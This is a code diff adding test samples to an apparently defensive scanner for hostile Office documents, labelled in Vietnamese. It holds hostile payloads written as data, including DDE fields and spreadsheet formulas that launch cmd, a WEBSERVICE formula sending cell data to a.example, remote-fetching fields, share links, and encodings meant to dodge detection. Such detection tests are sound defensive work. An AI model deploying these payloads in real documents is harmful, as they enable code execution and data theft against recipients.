@@ -90,6 +90,41 @@ def _unlisted_script() -> bytes:
     return raw_pdf("/OpenAction 9 0 R", "", _stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed))
 
 
+def word_fields(*runs: str) -> bytes:
+    """Return a Word file with one field, its instruction in these runs."""
+    said = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
+    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    return office({"word/footnotes.xml": f'<w:document xmlns:w="w"><w:p>{begin}{said}{end}</w:p></w:document>'})
+
+
+def excel_formula(formula: str, tag: str = "f") -> bytes:
+    sheet = f'<worksheet xmlns="x"><row><c><{tag}>{formula}</{tag.split()[0]}></c></row></worksheet>'
+    return office({"xl/worksheets/sheet1.xml": sheet}, main=EXCEL)
+
+
+def _related(kind: str, part: str = "word/a.dat", data: bytes | str = b"x", **said: str) -> bytes:
+    return office(
+        {part: data, "word/_rels/document.xml.rels": relations(kind, part.partition("/")[2], "Internal")}, **said
+    )
+
+
+def _linked(target: str, mode: str, kind: str = "image") -> bytes:
+    return office({"word/_rels/document.xml.rels": relations(kind, target, mode)})
+
+
+def _linked_between() -> bytes:
+    """A picture from afar among what a program may choose from."""
+    whole = relations("image", "http://a.example/x.png").replace("<Relationship ", "<mc:Choice><Relationship ")
+    inside = whole.replace("</Relationships>", "</mc:Choice></Relationships>").replace(
+        "s xmlns=", 's xmlns:mc="m" xmlns=', 1
+    )
+    return office({"word/_rels/document.xml.rels": inside})
+
+
+def _typed(kind: str) -> bytes:
+    return office({"xl/a.dat": "<x/>"}, main=EXCEL, types=f'<Override PartName="/xl/a.dat" ContentType="{kind}+xml"/>')
+
+
 def _bomb() -> bytes:
     return office({"word/media.xml": b"0" * 130 * 1024 * 1024})
 
@@ -164,6 +199,68 @@ HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
     ),
     "linked workbook": (office({"xl/externalLinks/externalLink1.xml": "<x/>"}, main=EXCEL), "bảng tính khác"),
     "data connection": (office({"xl/connections.xml": "<x/>"}, main=EXCEL), "kết nối lấy dữ liệu"),
+    "workbook linked under another name": (
+        _typed("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink"),
+        "bảng tính khác",
+    ),
+    "connection under another name": (
+        _typed("application/vnd.openxmlformats-officedocument.spreadsheetml.connections"),
+        "kết nối lấy dữ liệu",
+    ),
+    "ActiveX under another name": (_typed("application/vnd.ms-office.activeX"), "ActiveX"),
+    "macro sheet under another name": (_typed("application/vnd.ms-excel.intlmacrosheet"), "macro"),
+    "ActiveX by relation": (_related("control"), "ActiveX"),
+    "object by relation": (_related("oleObject"), "đối tượng nhúng"),
+    "web page taken in": (_related("aFChunk", "word/a.html", "<html/>"), "đoạn lấy từ tệp khác"),
+    "macro sheet by relation": (_related("xlMacrosheet", "word/a.xml", "<x/>"), "macro"),
+    "object called text": (office({"word/a.xml": OLE}), "tệp khác nằm bên trong"),
+    "archive called a drawing": (office({"word/a.vml": office()}), "tệp khác nằm bên trong"),
+    "text that is none": (office({"word/a.xml": b"\0MZ"}), "cấu trúc bất thường"),
+    "entities in EBCDIC": (
+        office({"word/a.xml": f'<?xml version="1.0" encoding="cp037"?>{LAUGHS}'.encode("cp037")}),
+        "cấu trúc bất thường",
+    ),
+    "entities in EBCDIC, not called text": (
+        office({"word/a.dat": f'<?xml version="1.0" encoding="cp037"?>{LAUGHS}'.encode("cp037")}),
+        "cấu trúc bất thường",
+    ),
+    "entities in UTF-7": (
+        office({"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x []><x/>'}),
+        "cấu trúc bất thường",
+    ),
+    "encoding far away": (
+        office({"word/a.xml": '<?xml version="1.0"' + " " * 2_000 + 'encoding="UTF-7"?><x/>'}),
+        "cấu trúc bất thường",
+    ),
+    "picture from afar, in a choice": (_linked_between, "lấy dữ liệu từ ngoài"),
+    "picture from afar, with spaces": (_linked("http://a.example/x.png", " External "), "lấy dữ liệu từ ngoài"),
+    "picture from afar, not called so": (_linked("http://a.example/x.png", "Internal"), "lấy dữ liệu từ ngoài"),
+    "picture from a share": (_linked("\\\\a.example\\x.png", "Internal"), "lấy dữ liệu từ ngoài"),
+    "link to a share": (_linked("//a.example/x", "External", "hyperlink"), "lấy dữ liệu từ ngoài"),
+    "link to a Windows share": (_linked("\\\\a.example\\x.exe", "External", "hyperlink"), "lấy dữ liệu từ ngoài"),
+    "field that runs": (word_fields(' DDEAUTO cmd "/k calc"'), "trường (field)"),
+    "field that runs, in pieces": (word_fields(" D", "DE", " cmd"), "trường (field)"),
+    "field that runs, in numbers": (word_fields("&#68;DE cmd"), "trường (field)"),
+    "field that runs, with a comment": (word_fields("D<!-- -->DE cmd"), "cấu trúc bất thường"),
+    "field that writes a field": (word_fields("QUOTE 68 68 69"), "trường (field)"),
+    "field that fetches": (word_fields('INCLUDEPICTURE "http://a.example/x" \\d'), "trường (field)"),
+    "field that fetches, plain": (
+        office({"word/footnotes.xml": '<d><w:fldSimple w:a=">" w:instr="INCLUDETEXT x"/></d>'}),
+        "trường (field)",
+    ),
+    "field in UTF-16": (
+        office({"word/a.xml": "<d><instrText>DDE a</instrText></d>".encode("utf-16")}),
+        "trường (field)",
+    ),
+    "field in text called data": (office({"word/a.dat": "<d><instrText>DDE a</instrText></d>"}), "trường (field)"),
+    "letters from a data source": (office({"word/settings.xml": "<w:s><w:mailMerge/></w:s>"}), "trộn thư"),
+    "formula that runs": (excel_formula("cmd|'/c calc'!A0"), "công thức"),
+    "formula that fetches": (
+        excel_formula("_xlfn.WEBSERVICE(&quot;http://a.example/&quot;&amp;A1)", 'f t="a>b"'),
+        "công thức",
+    ),
+    "formula that shows": (excel_formula("_xlfn.IMA&#71;E (A1)"), "công thức"),
+    "name that runs": (excel_formula("cmd|'/c calc'!A0", 'definedName name="a"'), "công thức"),
     "bomb": (_bomb, "quá lớn khi mở ra"),
     "sizes that lie": (_lying_sizes, "bị hỏng"),
     "many entries": (_many_entries, "quá lớn khi mở ra"),
